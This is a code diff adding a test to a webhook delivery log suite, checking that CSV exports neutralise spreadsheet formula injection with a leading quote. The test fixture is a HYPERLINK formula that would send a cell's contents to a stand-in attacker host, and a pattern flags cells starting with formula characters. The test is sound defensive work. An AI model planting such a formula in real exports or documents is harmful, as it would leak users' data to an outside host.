@@ -12,6 +12,7 @@ import { apiPaths } from '../../../shared/api-paths.ts';
 import { WEBHOOK_LOG_CSV_COLUMNS, WEBHOOK_QUEUE_CSV_COLUMNS } from '../../../shared/schemas/webhook.ts';
 
 const SLOW_RETRY = { retry: { firstDelayMs: 600_000, maxDelayMs: 600_000, giveUpAfterMs: 86_400_000, jitter: 0 }, pollIntervalMs: 50 };
+const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")';
 const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
 
 /** Splits RFC 4180 CSV into rows of fields (quoted fields may hold commas, quotes and newlines). */
@@ -91,6 +92,8 @@ describe('webhook delivery log and queue', () => {
     };
     okHook = await create(ok.url);
     refusingHook = await create(`${refusing.url}refuse-me/`);
+    // Project 16's title is a formula a member could type (issue 25, item 8): the CSV must not carry it live.
+    await server.request('PATCH', apiPaths.project(1, 16), { token, body: { title: FORMULA_TITLE } });
     for (const [projectId, notes] of [[16, 'first, with a comma'], [17, 'second "quoted"\nline'], [18, 'third']] as const) {
       const patched = await server.request('PATCH', apiPaths.project(1, projectId), { token, body: { notes, identifier: `SD-${projectId}` } });
       assert.equal(patched.status, 200, patched.text);
@@ -180,6 +183,19 @@ describe('webhook delivery log and queue', () => {
       assert.equal(fields[header!.indexOf('successful')], String(row.successful));
       assert.equal(fields[header!.indexOf('event_timestamp')], row.event_timestamp);
     });
+  });
+
+  test('format=csv neutralises a cell a spreadsheet would run as a formula (OWASP: a leading quote)', async () => {
+    const json = await log(`?${hookFilter(okHook)}&limit=50`);
+    assert.ok(json.some((row) => row.record_title === FORMULA_TITLE), 'the JSON carries the title as it is');
+    const response = await get(`${apiPaths.webhookProcessLogs(1)}?${hookFilter(okHook)}&limit=50&format=csv`);
+    assert.ok(response.text.includes(`"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Open"")"`), response.text);
+    const [header, ...rows] = parseCsv(response.text);
+    const titles = rows.map((fields) => fields[header!.indexOf('record_title')]!);
+    assert.ok(titles.includes(`'${FORMULA_TITLE}`), titles.join(' | '));
+    for (const fields of rows) {
+      for (const cell of fields) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
+    }
   });
 
   test('format=csv takes search and paging like the JSON', async () => {
